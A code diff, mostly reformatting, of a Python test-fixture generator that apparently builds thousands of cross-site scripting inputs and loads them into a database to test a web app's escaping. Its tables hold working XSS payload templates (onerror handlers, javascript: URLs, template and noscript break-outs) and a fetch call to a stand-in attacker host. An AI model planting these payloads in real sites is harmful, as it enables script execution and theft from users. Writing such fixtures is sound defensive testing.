@@ -1,9 +1,9 @@
 """Eight thousand ways to smuggle script into a page, made by combining: where to break out, what to run, how to write it.
 
-Ours, seeded, the same on every machine. Each has a number of its own, which whatever runs would tell.
+# ruff: noqa: E501 - tables of hostile text
 """
 
-# ruff: noqa: E501 - tables of hostile text, and lines as long as the rest of the project's prose
+# ruff: noqa: E501 - tables of hostile text
 
 from __future__ import annotations
 
@@ -38,7 +38,15 @@ ACTS = (
     "javascript:{run}", "data:text/html,<script>{run}</script>", "{{{{ {run} }}}}", "{{% if 1 %}}<img src=x onerror={run}>{{% endif %}}",
     "<img srcset='{evil}/{n}.png 2x'>", "<marquee onstart={run}>x</marquee>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
 )  # fmt: skip
-RUNS = ("hurt({n})", "alert({n})", "confirm({n})", "prompt({n})", "hurt`{n}`", "fetch('{evil}/{n}')", "top.hurt({n})")
+RUNS = (
+    "hurt({n})",
+    "alert({n})",
+    "confirm({n})",
+    "prompt({n})",
+    "hurt`{n}`",
+    "fetch('{evil}/{n}')",
+    "top.hurt({n})",
+)
 
 
 def _entities(text: str) -> str:
@@ -76,7 +84,15 @@ def pieces(every: list[str]) -> Iterator[tuple[Shop, Piece]]:
         line, key = " ".join(some), f"evil-{at // TOGETHER}"
         shop = Shop(key, line, some[0], "en")
         versions = tuple(
-            Version(f"2026-03-0{day}T00:00:00Z", change, f"{day} {line}", f"{line} {day}", (f"Common {day}", *some), 1, 1)
+            Version(
+                f"2026-03-0{day}T00:00:00Z",
+                change,
+                f"{day} {line}",
+                f"{line} {day}",
+                (f"Common {day}", *some),
+                1,
+                1,
+            )
             for day, change in ((1, "first"), (2, "headline"))
         )
         yield shop, Piece(
@@ -97,8 +113,12 @@ def build(folder: Path) -> Path:
             columns = ", ".join(f"{_quoted(one)} text" for one in some)
             connection.execute(f"create table {_quoted(some[0])} ({columns})")
             connection.execute(f"insert into {_quoted(some[0])} values ({', '.join('?' * len(some))})", some)
-        connection.execute("update captures set headers = json_array(json_array(url, url)), content_type = url, reason = url")
-        connection.execute("update crawls set state = (select title from articles), software = (select title from articles)")
+        connection.execute(
+            "update captures set headers = json_array(json_array(url, url)), content_type = url, reason = url"
+        )
+        connection.execute(
+            "update crawls set state = (select title from articles), software = (select title from articles)"
+        )
         connection.commit()
     return folder
 
